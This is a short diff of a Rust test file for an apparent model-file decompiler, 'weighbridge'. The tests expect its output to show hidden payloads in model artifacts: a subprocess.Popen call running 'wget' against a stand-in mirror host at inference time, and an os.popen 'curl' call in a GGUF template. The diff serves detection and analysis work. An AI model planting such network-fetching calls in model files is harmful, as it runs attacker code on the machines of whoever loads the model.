@@ -63,13 +63,13 @@ fn decompile_prints_python() {
         .end()
         .code(0)
         .prints("{'bias': 0.5}");
-    // Calls in a tuple that the bytecode takes apart again.
+    // Marshalled bytecode as the source it was compiled from.
     let nested = format!("{}/collected/models.zip", case("night-shift"));
     weighbridge(&["decompile", &nested])
         .end()
         .code(0)
         .prints("`warm_start` (runs at inference)")
-        .prints("__import__('subprocess').Popen( 'wget -q http://stage.weights-mirror.example");
+        .prints("__import__('subprocess').Popen('wget -q http://stage.weights-mirror.example");
     let template = format!("{}/staging/assistant-next.gguf", case("staged-template"));
     weighbridge(&["decompile", &template]).end().code(0).prints("['os'].popen('curl -s");
 }
